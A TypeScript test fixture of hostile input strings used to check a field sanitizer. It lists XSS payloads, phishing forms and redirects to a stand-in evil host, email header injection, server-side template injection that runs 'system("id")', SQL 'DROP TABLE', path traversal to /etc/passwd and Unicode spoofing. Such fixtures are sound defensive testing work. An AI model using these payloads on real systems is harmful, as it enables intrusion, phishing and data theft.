/*
 * What an attacker, a careless producer or a curious customer writes into a field. Each has something to see
 * in it, so that no field becomes empty once it is cleaned.
 */

export const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '</td></tr></table><h1>You have won</h1>',
  '</title><script>alert(1)</script>',
  '<!-- swallow the rest',
  ']]><b>x</b>',
  '<![CDATA[<b>x</b>]]>',
  '<a href="https://evil.example">Click here</a>',
  '<style>body{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=card></form>',
  '<base href="https://evil.example/">',
  '<<b>double</b>',
  '<b',
  '<b\n>line</b\n>',
  '<!--[if mso]><b>Outlook</b><![endif]-->',
] as const;

export const ATTRIBUTE_BREAKERS = [
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '"><b>x</b>',
  "'><b>x</b>",
  '" style="display:none',
  '`onmouseover=alert(1)`',
] as const;

export const ENCODED = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;b&#62;',
  '&#x3c;b&#x3e;',
  '&amp;lt;b&amp;gt;',
  '&quot; onclick=&quot;x',
  'AT&T',
  '&nbsp;x',
  '=?UTF-8?B?PHNjcmlwdD4=?=',
] as const;

export const HEADERS = [
  'x\r\nBcc: eve@evil.example',
  'x\nBcc: eve@evil.example',
  'x\rBcc: eve@evil.example',
  'x\u2028Bcc: eve@evil.example',
  'x\u2029Bcc: eve@evil.example',
  'x\u0085Bcc: eve@evil.example',
  'x\u0000Bcc: eve@evil.example',
  'x\r\n\r\n<html><body>another mail</body></html>',
  'x\r\n.\r\nMAIL FROM:<eve@evil.example>',
  'x%0d%0aBcc: eve@evil.example',
  'x\u000b\u000c\u001b[31mred',
] as const;

export const URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'http://evil.example/',
  '//evil.example/',
  'mailto:eve@evil.example?bcc=all@evil.example',
  'https://shop.example@evil.example/',
  'https://evil.example/"><script>alert(1)</script>',
  "https://evil.example/' onclick='alert(1)",
] as const;

export const TEMPLATES = [
  '{{constructor.constructor("return process")()}}',
  '{{{message}}}',
  '{{#each this}}{{@key}}{{/each}}',
  '{% include "/etc/passwd" %}',
  '{{ config.items() }}',
  '<%= 7 * 7 %>',
  '<% system("id") %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is the attack
  '${7 * 7}',
  '#{7 * 7}',
  '$& $1 $` $$',
  '%s %d %n',
  '[[@{/evil}]]',
] as const;

export const UNICODE = [
  'safe\u202egpj.exe',
  '\u2066\u2067\u2068isolated',
  'zero\u200bwidth\u200djoiner',
  '\ufeffmarked',
  'lone\ud800surrogate',
  'lone\udc00surrogate',
  'a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  '\uff1cscript\uff1e',
  '\u{e0041}x\u{e0042}',
  '👩‍👩‍👧‍👦 مرحبا שלום',
] as const;

export const LONG = ['x'.repeat(10_000), '<b>'.repeat(3_333), '\ud83d\ude00'.repeat(5_000)] as const;

export const INJECTIONS: readonly string[] = [
  ...MARKUP,
  ...ATTRIBUTE_BREAKERS,
  ...ENCODED,
  ...HEADERS,
  ...URLS,
  ...TEMPLATES,
  ...UNICODE,
  ...LONG,
  '__proto__',
  'constructor',
  "'; DROP TABLE orders; --",
  '../../etc/passwd',
];
